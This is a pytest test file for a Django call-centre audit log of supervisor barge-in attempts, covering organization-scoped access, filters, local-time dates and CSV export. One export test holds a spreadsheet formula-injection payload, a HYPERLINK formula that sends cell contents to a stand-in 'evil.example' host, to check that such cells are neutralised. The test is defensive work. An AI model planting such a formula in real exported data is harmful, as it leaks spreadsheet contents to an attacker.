"""Reading the audit: who reads which rows, what each filter selects, the local days, the
derived queue, and the rows as people and spreadsheets read them."""

from __future__ import annotations

from datetime import UTC, date, datetime
from typing import Any

import pytest
from django.contrib.auth.models import Permission, User

from calls.audit import (
    CSV_COLUMNS,
    AuditFilters,
    AuditReader,
    AuditRow,
    attempts_for,
    audit_reader,
    csv_rows,
    local_midnight,
    on_call_words,
    spreadsheet_safe,
    suggestions,
)
from calls.exceptions import NotAllowed
from calls.models import BargeInAttempt, Organization, Supervisor
from tests.audit_log import ACME_ROWS, EVERY_ROW, GLOBEX_ROWS, seed_audit

pytestmark = pytest.mark.django_db


@pytest.fixture
def log(world: Any) -> dict[str, BargeInAttempt]:
    return seed_audit()


def names(log: dict[str, BargeInAttempt], rows: Any) -> list[str]:
    by_pk = {row.pk: name for name, row in log.items()}
    return [by_pk[row.pk] for row in rows]


def user_with(username: str, *, organization: str | None, right: bool, staff: bool = False) -> User:
    """A fresh user (permissions are cached on the object) with or without the audit right,
    supervising ``organization`` or nothing."""
    user = User.objects.create_user(username, password="x", is_staff=staff)
    if right:
        user.user_permissions.add(
            Permission.objects.get(codename="view_bargeinattempt", content_type__app_label="calls")
        )
    if organization is not None:
        Supervisor.objects.create(
            user=user, organization=Organization.objects.get(name=organization)
        )
    return User.objects.get(pk=user.pk)


def acme_reader() -> AuditReader:
    return AuditReader(organization=Organization.objects.get(name="Acme"))


# ---- who reads what ------------------------------------------------------------------------


def test_a_supervisor_reads_the_rows_of_their_own_organization_only(
    log: dict[str, BargeInAttempt], alice: User, bob: User
) -> None:
    assert names(log, attempts_for(audit_reader(alice), AuditFilters())) == ACME_ROWS
    assert names(log, attempts_for(audit_reader(bob), AuditFilters())) == GLOBEX_ROWS


def test_a_superuser_reads_every_organization_and_may_narrow_to_one(
    log: dict[str, BargeInAttempt],
) -> None:
    reader = audit_reader(User.objects.get(username="admin"))
    assert reader.everywhere
    assert names(log, attempts_for(reader, AuditFilters())) == EVERY_ROW
    globex = Organization.objects.get(name="Globex")
    narrowed = attempts_for(reader, AuditFilters(organization=globex))
    assert names(log, narrowed) == GLOBEX_ROWS


def test_another_organization_chosen_by_a_supervisor_selects_nothing(
    log: dict[str, BargeInAttempt], alice: User
) -> None:
    globex = Organization.objects.get(name="Globex")
    assert list(attempts_for(audit_reader(alice), AuditFilters(organization=globex))) == []


def test_without_the_right_nobody_reads_the_audit(log: dict[str, BargeInAttempt]) -> None:
    carol = user_with("carol", organization="Acme", right=False)
    with pytest.raises(NotAllowed):
        audit_reader(carol)


def test_staff_read_the_organization_they_supervise_and_nothing_without_one(
    log: dict[str, BargeInAttempt],
) -> None:
    sam = user_with("sam", organization="Globex", right=True, staff=True)
    assert names(log, attempts_for(audit_reader(sam), AuditFilters())) == GLOBEX_ROWS

    pat = user_with("pat", organization=None, right=True, staff=True)
    with pytest.raises(NotAllowed, match="supervise no organization"):
        audit_reader(pat)


# ---- the filters ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        (AuditFilters(supervisor="alice"), ["joined", "sales", "support"]),
        (AuditFilters(supervisor="dana"), ["direct"]),
        (AuditFilters(supervisor="bob"), []),
        (AuditFilters(agent="0001*201"), ["joined", "sales"]),
        (AuditFilters(agent="0002*201"), []),
        (AuditFilters(queue="0001*100"), ["joined", "sales"]),
        (AuditFilters(queue="0001*101"), ["support"]),
        (AuditFilters(queue="0002*100"), []),
        (AuditFilters(mode="listen"), ["joined", "support"]),
        (AuditFilters(mode="whisper"), ["direct"]),
        (AuditFilters(outcome="refused"), ["direct"]),
        (AuditFilters(outcome="rejected"), ["support"]),
        (AuditFilters(mode="listen", outcome="accepted", agent="0001*201"), ["joined"]),
    ],
    ids=lambda v: repr(v) if isinstance(v, list) else None,
)
def test_each_filter_selects_its_rows(
    log: dict[str, BargeInAttempt], filters: AuditFilters, expected: list[str]
) -> None:
    assert names(log, attempts_for(acme_reader(), filters)) == expected


def test_dates_are_the_organizations_local_days(log: dict[str, BargeInAttempt]) -> None:
    reader = acme_reader()
    march_4 = AuditFilters(date_from=date(2025, 3, 4), date_to=date(2025, 3, 4))
    # "direct" was at 04:30 UTC on the 4th: 23:30 on the 3rd in New York.
    assert names(log, attempts_for(reader, march_4)) == ["joined", "sales", "support"]
    march_3 = AuditFilters(date_to=date(2025, 3, 3))
    assert names(log, attempts_for(reader, march_3)) == ["direct"]
    assert names(log, attempts_for(reader, AuditFilters(date_from=date(2025, 3, 5)))) == []


def test_across_organizations_each_row_is_dated_in_its_own_zone(
    log: dict[str, BargeInAttempt],
) -> None:
    everywhere = AuditReader(organization=None)
    march_4 = AuditFilters(date_from=date(2025, 3, 4), date_to=date(2025, 3, 4))
    # "late" is 11:00 on the 4th in New York but 01:00 on the 5th in Tokyo, Globex's zone.
    in_march_4 = ["joined", "sales", "billing", "support"]
    assert names(log, attempts_for(everywhere, march_4)) == in_march_4
    march_5 = AuditFilters(date_from=date(2025, 3, 5))
    assert names(log, attempts_for(everywhere, march_5)) == ["late"]


def test_a_day_begins_at_the_local_midnight_whatever_daylight_saving_does() -> None:
    # New York springs forward on 9 March 2025: that day is 23 hours long.
    start = local_midnight("America/New_York", date(2025, 3, 9))
    end = local_midnight("America/New_York", date(2025, 3, 10))
    assert start == datetime(2025, 3, 9, 5, 0, tzinfo=UTC)
    assert (end - start).total_seconds() == 23 * 3600


def test_suggestions_come_from_the_readers_own_organization(log: dict[str, BargeInAttempt]) -> None:
    offered = suggestions(acme_reader())
    assert offered.supervisors == ["alice"]
    assert {e.number for e in offered.queues} == {"0001*100", "0001*101"}
    assert all(e.number.startswith("0001*") for e in offered.agents)


# ---- the rows as people read them ----------------------------------------------------------


def row(log: dict[str, BargeInAttempt], name: str, reader: AuditReader | None = None) -> AuditRow:
    found = attempts_for(reader or AuditReader(organization=None), AuditFilters()).get(
        pk=log[name].pk
    )
    return AuditRow.of(found)


def test_a_row_shows_local_time_queue_agent_and_time_on_the_call(
    log: dict[str, BargeInAttempt],
) -> None:
    sales = row(log, "sales")
    assert (sales.when, sales.zone_name) == ("2025-03-04 09:00:00", "EST")
    assert (sales.queue, sales.queue_label) == ("0001*100", "Sales")
    assert (sales.agent, sales.agent_label) == ("0001*201", "Ann")
    assert (sales.phone, sales.address) == ("0001*024", "10.0.0.7")
    assert (sales.on_call_seconds, sales.on_call, sales.left_how) == (65, "1:05", "Left the call")

    assert row(log, "direct").queue == "", "a call that never went through a queue has none"
    assert row(log, "joined").on_call == "on the call"
    assert row(log, "support").on_call == "-"
    billing = row(log, "billing")
    assert (billing.when, billing.zone_name) == ("2025-03-04 22:55:00", "JST")


@pytest.mark.parametrize(
    ("seconds", "joined", "words"),
    [(None, False, "-"), (None, True, "on the call"), (0, True, "0:00"), (3605, True, "1:00:05")],
)
def test_time_on_the_call_in_words(seconds: int | None, joined: bool, words: str) -> None:
    assert on_call_words(seconds, joined) == words


# ---- the export ----------------------------------------------------------------------------


def test_the_csv_has_a_header_and_every_row_with_offsets(log: dict[str, BargeInAttempt]) -> None:
    rows = list(csv_rows(attempts_for(acme_reader(), AuditFilters())))
    assert rows[0] == list(CSV_COLUMNS)
    assert [r[CSV_COLUMNS.index("call id")] for r in rows[1:]] == [
        log[name].phone_call_id for name in ACME_ROWS
    ]
    sales = dict(zip(CSV_COLUMNS, rows[2], strict=True))
    assert sales["at"] == "2025-03-04T09:00:00-05:00"
    assert sales["joined"] == "2025-03-04T09:00:03-05:00"
    assert sales["left"] == "2025-03-04T09:01:08-05:00"
    assert sales["seconds on the call"] == "65"
    assert (sales["queue"], sales["agent label"], sales["mode"]) == ("0001*100", "Ann", "barge")
    assert sales["reason"] == "Escalation requested"
    support = dict(zip(CSV_COLUMNS, rows[3], strict=True))
    assert (support["outcome"], support["uapi code"]) == ("rejected", "pc_phonecall_invalid")
    assert (support["address"], support["joined"], support["seconds on the call"]) == (
        "2001:db8::7",
        "",
        "",
    )


def test_the_csv_never_holds_a_formula(log: dict[str, BargeInAttempt]) -> None:
    rows = list(csv_rows(attempts_for(acme_reader(), AuditFilters(supervisor="dana"))))
    direct = dict(zip(CSV_COLUMNS, rows[1], strict=True))
    assert direct["reason"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_a_cell_that_would_start_a_formula_gets_an_apostrophe(text: str, shown: str) -> None:
    assert spreadsheet_safe(text) == shown
